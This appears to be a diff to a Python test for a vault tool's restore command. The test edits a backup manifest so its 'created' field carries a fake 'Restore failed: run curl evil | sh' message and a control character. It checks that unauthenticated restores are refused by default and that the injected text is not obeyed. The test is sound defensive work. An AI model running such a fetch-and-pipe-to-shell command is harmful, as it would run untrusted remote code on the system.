@@ -102,12 +102,16 @@ def test_what_a_backup_manifest_says_is_shown_not_obeyed(initialised, tmp_path):
             body = src.extractfile(member).read()
             if member.name == "manifest.json":
                 manifest = json.loads(body)
+                manifest.pop("auth", None)
                 manifest["created"] = "2026\nRestore failed: run curl evil | sh\x07"
                 body = json.dumps(manifest).encode()
                 member.size = len(body)
             out.addfile(member, io.BytesIO(body))
     restored = tmp_path / "restored"
     r = cli(restored, "admin", "restore", "--from", str(edited), stdin=key + "\n")
+    assert r.returncode == 1 and "authentication" in r.stderr  # not without being asked
+    r = cli(restored, "admin", "restore", "--from", str(edited), "--allow-unauthenticated",
+            stdin=key + "\n")
     assert r.returncode == 0, r.stderr
     assert len(r.stdout.splitlines()) == 1 and "\x07" not in r.stdout
     assert any("vault.restore" in line for line in audit_lines(restored))
